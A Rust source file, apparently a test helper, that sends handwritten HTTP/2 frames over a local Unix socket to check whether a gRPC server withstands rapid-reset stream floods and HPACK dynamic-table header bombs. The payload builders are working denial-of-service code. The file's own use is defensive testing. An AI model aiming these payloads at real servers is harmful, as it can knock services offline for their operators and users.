//! A client that attacks an HTTP/2 server with handwritten frames.

use std::path::Path;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::UnixStream,
};

/// The error code that a server sends to clients with excessive requests.
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// The dynamic table holds 4096 bytes; an entry takes 32 in addition to its name and value.
const LARGEST_VALUE: usize = 4096 - 32 - 1;
/// The index of the newest entry of the dynamic table.
const NEWEST: u8 = 62;

/// The result of an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// The server has read everything, and the connection is open.
    Served,
    /// The server closed the connection, with this code if it sent a GOAWAY frame.
    Closed(Option<u32>),
}

/// Connects to `socket`, sends `frames` as fast as the server reads them, and waits until it has
/// read all or closes the connection.
///
/// # Panics
///
/// If nothing listens.
pub async fn attack(socket: &Path, frames: &[u8]) -> Outcome {
    let stream = UnixStream::connect(socket).await.expect("a server to attack");
    let (mut source, mut sink) = stream.into_split();
    let writing = async {
        let settings = frame(SETTINGS, 0, 0, &[]);
        let ping = frame(PING, 0, 0, &[7; 8]);
        for part in [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", settings.as_slice(), frames, &ping] {
            // If the server has closed the connection, the reading half reports that.
            if sink.write_all(part).await.is_err() {
                break;
            }
        }
    };
    let reading = async {
        let mut code = None;
        loop {
            let mut head = [0; 9];
            if source.read_exact(&mut head).await.is_err() {
                return Outcome::Closed(code);
            }
            let [high, middle, low, kind, flags, ..] = head;
            let mut payload = vec![0; u32::from_be_bytes([0, high, middle, low]) as usize];
            if source.read_exact(&mut payload).await.is_err() {
                return Outcome::Closed(code);
            }
            match (kind, payload.as_slice()) {
                (GOAWAY, [_, _, _, _, error @ ..]) => {
                    code = error.first_chunk().map(|bytes| u32::from_be_bytes(*bytes));
                }
                (PING, _) if flags & ACK != 0 => return Outcome::Served,
                _ => {}
            }
        }
    };
    tokio::join!(writing, reading).1
}

/// Calls of `method` that are reset: `batch` calls, then their resets, and so on.
#[must_use]
pub fn resets(method: &str, count: u32, batch: u32) -> Vec<u8> {
    let block = [request(method), literal("content-type", "application/grpc")].concat();
    let streams: Vec<u32> = (0..count).map(|number| 2 * number + 1).collect();
    let mut bytes = Vec::new();
    for batch in streams.chunks(batch as usize) {
        for stream in batch {
            bytes.extend(frame(HEADERS, END_HEADERS, *stream, &block));
        }
        for stream in batch {
            bytes.extend(frame(RST_STREAM, 0, *stream, &CANCEL.to_be_bytes()));
        }
    }
    bytes
}

/// Calls of `method` whose header lists refer to one entry of the dynamic table, of 4 KiB, `fields`
/// times.
#[must_use]
pub fn bombs(method: &str, count: u32, fields: usize) -> Vec<u8> {
    // Each field takes one byte in each call: its index.
    let plant = [vec![0x40, 1, b'x', 0x7f], length(LARGEST_VALUE), vec![b'v'; LARGEST_VALUE]];
    let call = [request(method), vec![0x80 | NEWEST; fields]].concat();
    let first = [request(method), plant.concat()].concat();
    let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, 1, &first);
    for number in 1..=count {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &call));
    }
    bytes
}

/// `POST http` of a method in HPACK, without the dynamic table.
fn request(method: &str) -> Vec<u8> {
    let length = u8::try_from(method.len()).expect("a short method");
    assert!(length < 0x7f, "a short method");
    [&[0x83, 0x86, 0x04, length], method.as_bytes()].concat()
}

/// A header field that is not indexed.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let short = |text: &str| u8::try_from(text.len()).expect("a short text");
    [&[0, short(name)], name.as_bytes(), &[short(value)], value.as_bytes()].concat()
}

/// The bytes after the first, 0x7f, of an integer of at least 127.
fn length(of: usize) -> Vec<u8> {
    let mut rest = of - 0x7f;
    let mut bytes = Vec::new();
    while rest >= 0x80 {
        bytes.push((rest & 0x7f) as u8 | 0x80);
        rest >>= 7;
    }
    bytes.push(rest as u8);
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
